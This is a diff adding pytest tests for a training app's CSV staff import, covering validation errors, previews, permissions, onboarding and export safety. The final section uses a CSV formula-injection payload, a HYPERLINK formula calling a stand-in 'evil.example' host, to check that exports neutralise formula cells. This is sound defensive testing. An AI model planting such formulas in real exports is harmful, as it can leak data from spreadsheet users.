@@ -1,0 +1,546 @@
+"""The staff import: a good file builds the organisation, a bad one is refused whole, with lines."""
+import csv
+import io
+from datetime import date, datetime, timedelta
+
+import pytest
+from conftest import login, make_app
+from small_content import write_content
+from sqlalchemy import func, select
+
+from trainer.cli import main as trainer_cli
+from trainer.extensions import db
+from trainer.models import (
+    Assignment,
+    Attempt,
+    AttemptPrinciple,
+    Department,
+    Team,
+    User,
+    UserRole,
+    team_managers,
+)
+from trainer.store import content, org, reports, staff_import
+
+HEADER = "name,email,department,team,manager_email,role,start_date"
+# Nina's and Olek's manager, Mona, is listed after them; Pia's manager Sam too.
+GOOD = f"""{HEADER}
+Nina New,nina@example.com,Sales,Showroom,mona@example.com,,2026-04-01
+Olek Nowak,olek@example.com,Sales,Showroom,MONA@example.com,employee,01.04.2026
+Pia Support,pia@example.com,Support,Claims,sam@example.com,employee,
+Sam Lead,sam@example.com,Support,Claims,,employee,15/01/2025
+Mona Lead,Mona@Example.com,Sales,Showroom,,employee;manager,2025-01-15
+Hana People,hana@example.com,People,HR,,hr,
+"""
+
+
+@pytest.fixture
+def app(tmp_path):
+    """The app on the small scenarios folder, whose onboarding module is quick to load."""
+    app = make_app(tmp_path, SCENARIOS_DIR=str(write_content(tmp_path / "scenarios")))
+    yield app
+    with app.app_context():
+        db.engine.dispose()
+
+
+def test_the_shipped_content_has_the_module_new_hires_get(library):
+    assert staff_import.ONBOARDING in library.modules
+
+
+def import_text(text: str, onboarding: bool = False, today: date | None = None):
+    plan = staff_import.read(text)
+    assert plan.errors == []
+    return staff_import.apply(plan, onboarding, today or date.today())
+
+
+def counts() -> dict[str, int]:
+    return {model.__tablename__: db.session.scalar(select(func.count()).select_from(model))
+            for model in (User, Team, Department, Assignment)}
+
+
+def dump() -> dict:
+    """Everything an import may touch, as plain values (ids included: nothing is replaced)."""
+    users = db.session.scalars(select(User).order_by(User.id))
+    return {
+        "users": [(u.id, u.email, u.name, u.team_id, u.start_date, sorted(u.roles), u.active,
+                   u.password_hash, u.session_token) for u in users],
+        "departments": db.session.execute(select(Department.id, Department.name)
+                                          .order_by(Department.id)).all(),
+        "teams": db.session.execute(select(Team.id, Team.department_id, Team.name)
+                                    .order_by(Team.id)).all(),
+        "managers": sorted(db.session.execute(select(team_managers)).all()),
+        "assignments": db.session.execute(
+            select(Assignment.id, Assignment.user_id, Assignment.module_id, Assignment.due_date,
+                   Assignment.assigned_at, Assignment.started_at, Assignment.completed_at)
+            .order_by(Assignment.id)).all(),
+    }
+
+
+def person(email: str) -> User:
+    return db.session.scalar(select(User).filter_by(email=email))
+
+
+def team_of(email: str) -> tuple[str, str]:
+    team = person(email).team
+    return team.department.name, team.name
+
+
+# --- a good file ---------------------------------------------------------------------------
+
+
+def test_a_good_file_builds_departments_teams_people_roles_and_managers(app):
+    with app.app_context():
+        done = import_text(GOOD)
+        assert (done.created, done.updated, done.unchanged, done.onboarded) == (6, 0, 0, 0)
+        assert [d.name for d in db.session.scalars(select(Department).order_by(Department.name))] \
+            == ["People", "Sales", "Support"]
+        assert sorted((t.department.name, t.name) for t in db.session.scalars(select(Team))) \
+            == [("People", "HR"), ("Sales", "Showroom"), ("Support", "Claims")]
+        expected = {
+            "nina@example.com": ("Nina New", ("Sales", "Showroom"), {"employee"},
+                                 date(2026, 4, 1)),
+            "olek@example.com": ("Olek Nowak", ("Sales", "Showroom"), {"employee"},
+                                 date(2026, 4, 1)),
+            "pia@example.com": ("Pia Support", ("Support", "Claims"), {"employee"}, None),
+            "sam@example.com": ("Sam Lead", ("Support", "Claims"), {"employee", "manager"},
+                                date(2025, 1, 15)),
+            "mona@example.com": ("Mona Lead", ("Sales", "Showroom"), {"employee", "manager"},
+                                 date(2025, 1, 15)),
+            "hana@example.com": ("Hana People", ("People", "HR"), {"hr"}, None),
+        }
+        for email, (name, team, roles, start) in expected.items():
+            user = person(email)
+            assert (user.name, team_of(email), user.roles, user.start_date) == \
+                (name, team, roles, start), email
+            assert user.password_hash is None  # cannot sign in until an admin sets one
+        managers = {t.name: [m.email for m in t.managers] for t in db.session.scalars(select(Team))}
+        assert managers == {"Showroom": ["mona@example.com"], "Claims": ["sam@example.com"],
+                            "HR": []}
+
+
+def test_columns_are_matched_by_name_in_any_order_with_windows_line_ends(app):
+    text = ("Start Date,Role,Manager_Email,Team,Department,Email,Name\r\n"
+            "2026-04-01,,,Showroom,Sales,nina@example.com,Nina New\r\n")
+    with app.app_context():
+        import_text(text)
+        assert (person("nina@example.com").name, team_of("nina@example.com")) == \
+            ("Nina New", ("Sales", "Showroom"))
+
+
+def test_the_preview_says_what_each_row_will_do_and_writes_nothing(app):
+    with app.app_context():
+        before = dump()
+        plan = staff_import.read(GOOD)
+        assert [(row.line, row.action) for row in plan.rows] == \
+            [(line, "create") for line in range(2, 8)]
+        assert dump() == before
+
+        import_text(GOOD)
+        changed = (GOOD.replace("Nina New", "Nina Nowa")
+                   .replace("Olek Nowak,olek@example.com,Sales,Showroom",
+                            "Olek Nowak,olek@example.com,Sales,Key accounts")
+                   .replace("sam@example.com,employee,", "sam@example.com,employee;hr,")
+                   + "Rob Recruit,rob@example.com,Sales,Showroom,mona@example.com,,\n")
+        plan = staff_import.read(changed)
+        assert plan.errors == []
+        actions = {row.email: (row.action, row.changes) for row in plan.rows}
+        assert actions == {
+            "nina@example.com": ("update", ["name: Nina New → Nina Nowa"]),
+            "olek@example.com": ("update", ["team: Sales / Showroom → Sales / Key accounts",
+                                            "manager: mona@example.com"]),
+            "pia@example.com": ("update", ["roles: add hr"]),
+            "sam@example.com": ("unchanged", []),
+            "mona@example.com": ("unchanged", []),
+            "hana@example.com": ("unchanged", []),
+            "rob@example.com": ("create", []),
+        }
+        assert (plan.count("create"), plan.count("update"), plan.count("unchanged")) == (1, 3, 3)
+
+
+def test_an_update_moves_people_and_adds_roles_but_never_takes_one_away(app):
+    with app.app_context():
+        import_text(GOOD)
+        user = person("hana@example.com")
+        user.role_rows.append(UserRole(role="admin"))  # granted by hand
+        db.session.commit()
+        import_text(GOOD.replace("Hana People,hana@example.com,People,HR,,hr,",
+                                 "Hana People,hana@example.com,People,Payroll,,employee,"))
+        assert person("hana@example.com").roles == {"hr", "admin", "employee"}
+        assert team_of("hana@example.com") == ("People", "Payroll")
+
+
+def test_importing_the_same_file_twice_changes_nothing(app):
+    with app.app_context():
+        import_text(GOOD, onboarding=True)
+        before = dump()
+        plan = staff_import.read(GOOD)
+        assert {row.action for row in plan.rows} == {"unchanged"}
+        done = staff_import.apply(plan, True, date.today())
+        assert (done.created, done.updated, done.unchanged, done.onboarded) == (0, 0, 6, 0)
+        db.session.expire_all()
+        assert dump() == before
+
+
+def test_a_deactivated_person_in_the_file_stays_deactivated_and_is_not_an_update(app):
+    with app.app_context():
+        import_text(GOOD)
+        org.deactivate(person("pia@example.com"))
+        db.session.commit()
+        before = dump()
+        plan = staff_import.read(GOOD)
+        pia = next(row for row in plan.rows if row.email == "pia@example.com")
+        assert (pia.action, pia.changes) == \
+            ("unchanged", ["deactivated: stays deactivated (reactivate by hand)"])
+        assert plan.count("unchanged") == 6
+        staff_import.apply(plan, True, date.today())
+        assert dump() == before
+
+        plan = staff_import.read(GOOD.replace("Pia Support", "Pia Nowak"))
+        pia = next(row for row in plan.rows if row.email == "pia@example.com")
+        assert pia.action == "update"
+        staff_import.apply(plan, True, date.today())
+        assert (person("pia@example.com").name, person("pia@example.com").active) == \
+            ("Pia Nowak", False)
+
+
+# --- a bad file ----------------------------------------------------------------------------
+
+GOOD_ROW = "Nina New,nina@example.com,Sales,Showroom,,,2026-04-01"
+
+# One bad row on line 3 after a good one on line 2: what the error says.
+BAD_ROWS = {
+    "bad email": ("Bo Bad,bo@@example,Sales,Showroom,,,", "'bo@@example' is not a valid email"),
+    "empty email": ("Bo Bad,,Sales,Showroom,,,", "'email' is empty"),
+    "empty name": (",bo@example.com,Sales,Showroom,,,", "'name' is empty"),
+    "empty team": ("Bo Bad,bo@example.com,Sales,,,,", "'team' is empty"),
+    "unknown manager": ("Bo Bad,bo@example.com,Sales,Showroom,ghost@example.com,,",
+                        "manager ghost@example.com is neither in the file nor a known person"),
+    "own manager": ("Bo Bad,bo@example.com,Sales,Showroom,bo@example.com,,",
+                    "a person cannot be their own manager"),
+    "bad date": ("Bo Bad,bo@example.com,Sales,Showroom,,,2026-02-30",
+                 "start date '2026-02-30' is not a date"),
+    "not a date": ("Bo Bad,bo@example.com,Sales,Showroom,,,next monday",
+                   "start date 'next monday' is not a date"),
+    "unknown role": ("Bo Bad,bo@example.com,Sales,Showroom,,employee;chief,",
+                     "unknown role 'chief'"),
+    "too few values": ("Bo Bad,bo@example.com,Sales", "3 values, but the header names 7"),
+    "too many values": ("Bo Bad,bo@example.com,Sales,Showroom,,,,extra",
+                        "8 values, but the header names 7"),
+}
+
+
+@pytest.mark.parametrize("row, message", BAD_ROWS.values(), ids=BAD_ROWS.keys())
+def test_a_bad_row_is_reported_by_line_and_nothing_is_written(app, people, row, message):
+    with app.app_context():
+        before = counts()
+        plan = staff_import.read(f"{HEADER}\n{GOOD_ROW}\n{row}\n")
+        assert [e.line for e in plan.errors] == [3], plan.errors
+        assert message in plan.errors[0].message
+        assert str(plan.errors[0]).startswith("line 3: ")
+        with pytest.raises(ValueError):
+            staff_import.apply(plan, True, date.today())
+        assert counts() == before
+
+
+BAD_HEADERS = {
+    "missing column": ("name,email,department,team,manager_email,role",
+                       "missing column(s): start_date"),
+    "unknown column": (HEADER + ",phone", "unknown column(s): phone"),
+    "renamed column": ("name,e-mail,department,team,manager_email,role,start_date",
+                       "missing column(s): email; unknown column(s): e-mail"),
+    "empty file": ("", "the file is empty"),
+}
+
+
+@pytest.mark.parametrize("header, message", BAD_HEADERS.values(), ids=BAD_HEADERS.keys())
+def test_wrong_columns_are_an_error_on_line_1(app, header, message):
+    with app.app_context():
+        plan = staff_import.read(f"{header}\n{GOOD_ROW}\n" if header else "")
+        assert [(e.line, message in e.message) for e in plan.errors] == [(1, True)], plan.errors
+        assert plan.rows == []
+
+
+def test_a_duplicate_email_names_both_lines(app):
+    text = f"{HEADER}\n{GOOD_ROW}\nOlek,olek@example.com,Sales,Showroom,,,\n" \
+           "Nina Again,NINA@example.com,Support,Claims,,,\n"
+    with app.app_context():
+        plan = staff_import.read(text)
+        assert [str(e) for e in plan.errors] == ["line 4: nina@example.com is also on line 2"]
+
+
+def test_a_manager_may_be_someone_already_in_the_database(app, people):
+    text = f"{HEADER}\nBo New,bo@example.com,Sales,Showroom,ANN@example.com,,\n"
+    with app.app_context():
+        import_text(text)
+        assert [m.email for m in person("bo@example.com").team.managers] == \
+            ["ann@example.com", "mia@example.com"]
+        assert "manager" in person("ann@example.com").roles
+
+
+def test_every_error_is_reported_at_once_on_its_physical_line(app, people):
+    # Line 3 holds a quoted cell that runs onto line 4, so later rows sit one line lower than
+    # their row number; the error in the two-line row itself is reported where it starts.
+    text = "\n".join([
+        HEADER,                                                                     # 1
+        GOOD_ROW,                                                                   # 2
+        '"Ann\nSmith",ann.smith@example,Sales,Showroom,,,',                         # 3-4
+        "Bo Bad,bo@example.com,Sales,Showroom,ghost@example.com,chief,1999-13-01",  # 5
+        "",                                                                         # 6
+        "Cy Short,cy@example.com",                                                  # 7
+        "Nina Twice,nina@example.com,Sales,Showroom,,,",                            # 8
+        '"Dee\nDee",dee@example.com,Sales,Showroom,nina@example.com,,',             # 9-10
+        "Eve Bad,eve@example.com,Sales,Showroom,,,31.02.2026",                      # 11
+    ]) + "\n"
+    with app.app_context():
+        before = counts()
+        plan = staff_import.read(text)
+        found = [(e.line, e.message.split(" (")[0]) for e in plan.errors]
+        assert found == [
+            (3, "'ann.smith@example' is not a valid email address"),
+            (5, "unknown role 'chief'"),
+            (5, "start date '1999-13-01' is not a date like 2026-03-31"),
+            (7, "2 values, but the header names 7 columns"),
+            (8, "nina@example.com is also on line 2"),
+            (11, "start date '31.02.2026' is not a date like 2026-03-31"),
+        ]
+        assert counts() == before
+        # The good rows are read, two-line name and all, with their own first lines.
+        assert [(r.line, r.name) for r in plan.rows] == [(2, "Nina New"), (9, "Dee\nDee")]
+
+
+def test_a_file_that_is_not_csv_gives_an_error_not_a_crash(app):
+    # A stray carriage return inside a cell: the csv module refuses the rest of the file.
+    text = f"{HEADER}\n{GOOD_ROW}\nBo Bad,bo@example.com,Sa\rles,Showroom,,,\n{GOOD_ROW}\n"
+    with app.app_context():
+        plan = staff_import.read(text)
+        assert [e.line for e in plan.errors] == [3]
+        assert "cannot be read as CSV" in plan.errors[0].message
+
+
+# --- onboarding: the command line ----------------------------------------------------------
+
+def hires_file(today: date) -> str:
+    later, earlier = today + timedelta(days=30), today - timedelta(days=3)
+    return (f"{HEADER}\n"
+            f"Late Starter,late@example.com,Sales,Showroom,mia@example.com,,{later.isoformat()}\n"
+            f"Early Starter,early@example.com,Sales,Showroom,,,{earlier.isoformat()}\n"
+            "No Date,nodate@example.com,Support,Claims,,,\n"
+            "Ann Employee,ann@example.com,Sales,Showroom,mia@example.com,,\n")
+
+
+def onboarding_due() -> dict[str, date]:
+    return dict(db.session.execute(
+        select(User.email, Assignment.due_date).join(Assignment, Assignment.user_id == User.id)
+        .where(Assignment.module_id == staff_import.ONBOARDING)).all())
+
+
+def expected_due(today: date) -> dict[str, date]:
+    """Two weeks from the start date, or from today when they started already."""
+    return {"late@example.com": today + timedelta(days=30 + 14),
+            "early@example.com": today + timedelta(days=14),
+            "nodate@example.com": today + timedelta(days=14)}
+
+
+def run_cli(app, tmp_path, text: str, *options: str):
+    path = tmp_path / "staff.csv"
+    path.write_text(text, encoding="utf-8")
+    return app.test_cli_runner().invoke(trainer_cli, ["import-staff", str(path), *options])
+
+
+def test_the_command_gives_new_hires_onboarding_but_not_people_already_there(app, people,
+                                                                              tmp_path):
+    today = date.today()
+    result = run_cli(app, tmp_path, hires_file(today), "--commit", "--onboarding")
+    assert result.exit_code == 0, result.output
+    assert "Imported: 3 created, 0 updated, 1 unchanged; 3 given onboarding." in result.output
+    with app.app_context():
+        assert content.module(staff_import.ONBOARDING) is not None
+        assert onboarding_due() == expected_due(today)
+
+
+def test_the_command_without_onboarding_assigns_nothing(app, people, tmp_path):
+    result = run_cli(app, tmp_path, hires_file(date.today()), "--commit", "--no-onboarding")
+    assert result.exit_code == 0, result.output
+    assert "3 created" in result.output and "0 given onboarding" in result.output
+    with app.app_context():
+        assert person("late@example.com") is not None
+        assert onboarding_due() == {}
+
+
+def test_the_command_previews_without_commit(app, people, tmp_path):
+    with app.app_context():
+        before = dump()
+    result = run_cli(app, tmp_path, hires_file(date.today()))
+    assert result.exit_code == 0, result.output
+    assert "line 2: create late@example.com" in result.output
+    assert "Preview: 3 to create, 0 to update, 1 unchanged" in result.output
+    with app.app_context():
+        assert dump() == before
+
+
+def test_the_command_reports_every_bad_line_with_the_file_name_and_writes_nothing(
+        app, people, tmp_path):
+    text = f"{HEADER}\n{GOOD_ROW}\n{BAD_ROWS['bad email'][0]}\n{BAD_ROWS['bad date'][0]}\n"
+    with app.app_context():
+        before = dump()
+    result = run_cli(app, tmp_path, text, "--commit")
+    assert result.exit_code == 1
+    assert "staff.csv:3: 'bo@@example' is not a valid email" in result.output
+    assert "staff.csv:4: start date '2026-02-30'" in result.output
+    assert "Nothing was written: 2 problem(s)." in result.output
+    with app.app_context():
+        assert dump() == before
+
+
+# --- onboarding: the browser ---------------------------------------------------------------
+
+def upload(client, text: str | bytes, filename: str = "staff.csv"):
+    raw = text.encode("utf-8") if isinstance(text, str) else text
+    return client.post("/admin/import", data={"upload-file": (io.BytesIO(raw), filename)},
+                       content_type="multipart/form-data")
+
+
+def confirm(client, text: str, onboarding: bool):
+    data = {"confirm-text": text}
+    if onboarding:
+        data["confirm-onboarding"] = "y"
+    return client.post("/admin/import", data=data)
+
+
+@pytest.mark.parametrize("who", ["hugo", "ada"])
+def test_hr_and_admins_preview_then_confirm_an_import_in_the_browser(app, client, people, who):
+    today = date.today()
+    text = hires_file(today)
+    login(client, who)
+    with app.app_context():
+        before = dump()
+    preview = upload(client, "\ufeff" + text)
+    assert preview.status_code == 200
+    assert "Preview: 3 to create, 0 to update, 1 unchanged" in preview.text
+    assert 'name="confirm-text"' in preview.text
+    with app.app_context():
+        assert dump() == before
+
+    done = confirm(client, text, onboarding=True)
+    assert done.status_code == 302 and done.location == "/admin/import"
+    assert "Imported: 3 created, 0 updated, 1 unchanged; 3 given onboarding." in \
+        client.get("/admin/import").text
+    with app.app_context():
+        assert onboarding_due() == expected_due(today)
+        assigned_by = set(db.session.scalars(select(Assignment.assigned_by_id)))
+        assert assigned_by == {people.ids[who]}
+
+
+def test_confirming_without_the_onboarding_box_assigns_nothing(app, client, people):
+    login(client, "hugo")
+    assert confirm(client, hires_file(date.today()), onboarding=False).status_code == 302
+    with app.app_context():
+        assert person("late@example.com") is not None and onboarding_due() == {}
+
+
+@pytest.mark.parametrize("who", ["ann", "mia"])
+def test_employees_and_managers_cannot_import(app, client, people, who):
+    login(client, who)
+    with app.app_context():
+        before = dump()
+    assert client.get("/admin/import").status_code == 403
+    assert upload(client, GOOD).status_code == 403
+    assert confirm(client, GOOD, onboarding=True).status_code == 403
+    with app.app_context():
+        assert dump() == before
+
+
+@pytest.mark.parametrize("step", ["upload", "confirm"])
+def test_a_bad_file_in_the_browser_lists_its_errors_and_writes_nothing(app, client, people,
+                                                                        step):
+    text = f"{HEADER}\n{GOOD_ROW}\n{BAD_ROWS['unknown manager'][0]}\n"
+    login(client, "hugo")
+    with app.app_context():
+        before = dump()
+    response = upload(client, text) if step == "upload" else confirm(client, text, True)
+    assert response.status_code == 400
+    assert "Nothing was written: 1 problem to fix" in response.text
+    assert "line 3: manager ghost@example.com is neither in the file nor a known person" in \
+        response.text
+    assert 'name="confirm-text"' not in response.text
+    with app.app_context():
+        assert dump() == before
+
+
+def test_only_an_administrator_can_grant_the_admin_role_by_import(app, client, people):
+    text = (f"{HEADER}\nHugo HR,hugo@example.com,Sales,Showroom,,hr;admin,\n"
+            "Ada Admin,ada@example.com,Sales,Showroom,,admin,\n")
+    login(client, "hugo")
+    with app.app_context():
+        before = dump()
+    for response in (upload(client, text), confirm(client, text, onboarding=False)):
+        assert response.status_code == 400
+        # Ada is an administrator already, so only Hugo's row asks for something new.
+        assert "line 2: only an administrator may grant the role(s): admin" in response.text
+        assert "line 3:" not in response.text
+    with app.app_context():
+        assert dump() == before
+    login(client, "ada")
+    assert confirm(client, text, onboarding=False).status_code == 302
+    with app.app_context():
+        assert person("hugo@example.com").roles == {"hr", "admin"}
+
+
+def test_a_file_that_is_not_csv_by_name_is_refused_with_a_message(app, client, people):
+    login(client, "hugo")
+    response = upload(client, GOOD, filename="staff.xlsx")
+    assert response.status_code == 400
+    assert "A .csv file." in response.text
+
+
+def test_a_file_that_is_not_utf8_is_refused_with_a_message(app, client, people):
+    login(client, "hugo")
+    response = upload(client, GOOD.replace("Nina", "Ni\u00f1a").encode("latin-1"))
+    assert response.status_code == 400
+    assert "The file is not UTF-8 text" in response.text
+
+
+# --- formulas stay text ------------------------------------------------------------------
+
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","Click me")'
+FORMULAS = (f"{HEADER}\n"
+            f'"{FORMULA_NAME.replace(chr(34), chr(34) * 2)}",f1@example.com,+Sales,@Floor,,,\n'
+            "-2+3,f2@example.com,+Sales,@Floor,,,\n"
+            "Plain Person,f3@example.com,Support,-Desk,,,\n")
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_formula_like_cells_are_stored_as_text_and_neutralised_in_every_export(
+        app, client, people):
+    today = date.today()
+    with app.app_context():
+        import_text(FORMULAS, onboarding=True, today=today)
+        assert person("f1@example.com").name == FORMULA_NAME
+        assert team_of("f2@example.com") == ("+Sales", "@Floor")
+        for a in db.session.scalars(select(Assignment)):
+            a.due_date = today - timedelta(days=3)  # overdue: the names reach that export
+        # A finished attempt that loses points: negative numbers must stay numbers.
+        scenario_id = content.module(staff_import.ONBOARDING).scenarios[0]
+        version = content.version_row(content.current(scenario_id))
+        attempt = Attempt(user_id=person("f1@example.com").id, scenario_id=scenario_id,
+                          version_id=version.id, seed=1, state={}, status=Attempt.FINISHED,
+                          percent=0, finished_at=datetime.now())
+        db.session.add(attempt)
+        db.session.flush()
+        db.session.add(AttemptPrinciple(attempt_id=attempt.id, principle_id="courtesy",
+                                        earned=-7, best=5))
+        db.session.commit()
+
+    login(client, "hugo")
+    cells = {}
+    for name in reports.TABLES:
+        response = client.get(f"/reports/{name}.csv")
+        assert response.status_code == 200 and response.mimetype == "text/csv"
+        cells[name] = [cell for row in csv.reader(io.StringIO(response.text)) for cell in row]
+        for cell in cells[name]:
+            if cell.startswith(FORMULA_START):
+                int(cell)  # the only cells allowed to start so are (negative) numbers
+    assert "'" + FORMULA_NAME in cells["overdue"] and "'-2+3" in cells["overdue"]
+    assert "'+Sales" in cells["department"] and "'+Sales" in cells["overdue"]
+    assert {"'+Sales", "'@Floor", "'-Desk"} <= set(cells["team"])
+    assert "-7" in cells["principles"] and "-140" in cells["principles"]
